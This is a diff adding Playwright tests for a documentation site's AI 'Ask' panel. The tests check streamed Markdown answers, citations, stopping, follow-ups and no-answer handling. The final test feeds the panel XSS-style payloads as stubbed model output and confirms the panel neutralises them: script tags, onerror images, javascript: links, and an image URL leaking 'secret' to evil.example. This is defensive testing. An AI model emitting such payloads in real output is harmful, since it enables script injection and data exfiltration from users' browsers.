@@ -1,0 +1,144 @@
+import { expect, test } from '@playwright/test'
+import { type AnswerService, startAnswerService } from './answer-service.ts'
+import { ask, askAndRead, copyButton, openAsk, watch } from './ask-panel.ts'
+
+const QUESTION = 'How do I back up the database?'
+
+// One service serves them all, and its model says what the test under way tells it.
+test.describe.configure({ mode: 'default' })
+
+let service: AnswerService
+test.beforeAll(async () => {
+  service = await startAnswerService()
+})
+test.afterAll(() => service.stop())
+
+test('an answer is written as it streams, cites its sources and has its Markdown drawn', async ({ page }) => {
+  const { complaints } = watch(page)
+  const { promise: rest, resolve: goOn } = Promise.withResolvers<void>()
+  service.say(async (write) => {
+    write('## Dump\n\nRun `mariadb-dump` **daily** [1].\n\n')
+    await rest
+    write('| What | How |\n|---|---:|\n| Files | copy [2] |\n\n```sh\nmariadb-dump panel\n```\n\nNot [99].')
+  })
+  await page.goto(`${service.address}/docs`)
+  const pane = await openAsk(page)
+  await expect(pane).toContainText('Answers are written by a language model from these pages')
+  const answer = await ask(pane, QUESTION)
+  await expect(answer.locator('strong', { hasText: 'daily' })).toBeVisible()
+  await expect(pane.getByRole('button', { name: 'Stop' })).toBeVisible()
+  await expect(pane.getByRole('status').last()).toHaveText('The answer is being written')
+  await expect(answer.getByRole('listitem').filter({ hasText: 'Writing the answer' })).toContainText(
+    'under way',
+  )
+  goOn()
+  await expect(copyButton(answer)).toBeVisible()
+  await expect(answer.getByRole('heading', { name: 'Dump' })).toBeVisible()
+  await expect(answer.getByRole('cell', { name: /^Files$/ })).toBeVisible()
+  await expect(answer.locator('pre code')).toHaveText('mariadb-dump panel\n')
+  await expect(answer.getByRole('link', { name: 'Source 2', exact: true }).first()).toBeVisible()
+  // What cites no source is left out, and so is the list for readers of plain text.
+  await expect(answer).not.toContainText('[99]')
+  await expect(answer).not.toContainText('[1]')
+  await expect(answer).not.toContainText('no language model takes part')
+  expect(complaints).toEqual([])
+})
+
+test('a planned answer shows each step while it is under way', async ({ page }) => {
+  const { promise: rest, resolve: goOn } = Promise.withResolvers<void>()
+  service.say(async (write) => {
+    write('Run it daily [1].')
+    await rest
+  })
+  await page.goto(`${service.address}/docs`)
+  const pane = await openAsk(page)
+  await pane.getByRole('checkbox', { name: 'Plan the answer and show its steps' }).check()
+  const answer = await ask(pane, QUESTION)
+  await expect(answer.getByText('Run it daily')).toBeVisible()
+  await expect(answer.getByRole('list').first().getByRole('listitem')).toHaveText([
+    'Question received (done)',
+    'Plan made (done)',
+    'Understand the question (done)',
+    'Find the passages that fit (done)',
+    'Answer from these passages (under way)',
+  ])
+  goOn()
+  await expect(copyButton(answer)).toBeVisible()
+  await expect(answer.getByText('Steps of this answer')).toBeVisible()
+})
+
+test('an answer can be stopped, up to the model, and asked for again', async ({ page }) => {
+  const { promise: never } = Promise.withResolvers<void>()
+  service.say(async (write) => {
+    write('Half of it.')
+    await never
+  })
+  await page.goto(`${service.address}/docs`)
+  const pane = await openAsk(page)
+  const answer = await ask(pane, QUESTION)
+  await expect(answer.getByText('Half of it.')).toBeVisible()
+  const before = service.abandoned()
+  await pane.getByRole('button', { name: 'Stop' }).click()
+  await expect(answer).toContainText('Stopped. What is above is not the whole answer.')
+  await expect(pane.getByRole('status').last()).toHaveText('The answer was stopped')
+  await expect.poll(() => service.abandoned()).toBe(before + 1)
+  service.say((write) => write('All of it [1].'))
+  await answer.getByRole('button', { name: 'Ask again' }).click()
+  await expect(answer.getByText('All of it')).toBeVisible()
+  await expect(answer).not.toContainText('Half of it.')
+})
+
+test('a follow-up is told to the model with what was said', async ({ page }) => {
+  let told = ''
+  service.say((write, prompt) => {
+    told = prompt
+    write('Copy it back [1].')
+  })
+  await page.goto(`${service.address}/docs`)
+  const pane = await openAsk(page)
+  await askAndRead(pane, QUESTION)
+  await askAndRead(pane, 'And how do I restore it?')
+  const { messages } = JSON.parse(told)
+  expect(messages.slice(1).map(({ role }: { role: string }) => role)).toEqual(['user', 'assistant', 'user'])
+  expect(messages[1].content).toBe(QUESTION)
+})
+
+test('says when the model finds no answer in the pages, and lists the closest', async ({ page }) => {
+  service.say((write) => write('NOT_IN_SOURCES'))
+  await page.goto(`${service.address}/docs`)
+  const pane = await openAsk(page)
+  const answer = await askAndRead(pane, QUESTION)
+  await expect(answer).toContainText('The pages do not say. The closest:')
+  await expect(answer.getByRole('listitem').first().getByRole('link').first()).toHaveAttribute(
+    'href',
+    /^\/docs\//,
+  )
+})
+
+test('what a model says does nothing but read: no script, no picture, no way off the site', async ({
+  page,
+}) => {
+  const { complaints, elsewhere } = watch(page)
+  service.say((write) =>
+    write(
+      [
+        'Read [1].',
+        '<script>alert(1)</script><img src="https://evil.example/i.png" onerror="alert(2)">',
+        '![x](https://evil.example/p.png?q=secret)',
+        '[Log in](https://evil.example/login) [Here](javascript:alert(3)) <https://evil.example/auto>',
+        '[There](//evil.example/x) [ref]\n\n[ref]: https://evil.example/ref "t"',
+        '<iframe src="https://evil.example/f"></iframe><style>body{display:none}</style>',
+      ].join('\n\n'),
+    ),
+  )
+  await page.goto(`${service.address}/docs`)
+  const pane = await openAsk(page)
+  const answer = await askAndRead(pane, QUESTION)
+  await expect(
+    answer.locator('img, script, iframe, style, [href*="evil"], [href^="javascript"]'),
+  ).toHaveCount(0)
+  await expect(answer.getByText('Log in')).toBeVisible()
+  expect(page.url()).toBe(`${service.address}/docs`)
+  expect(complaints).toEqual([])
+  expect(elsewhere).toEqual([])
+})
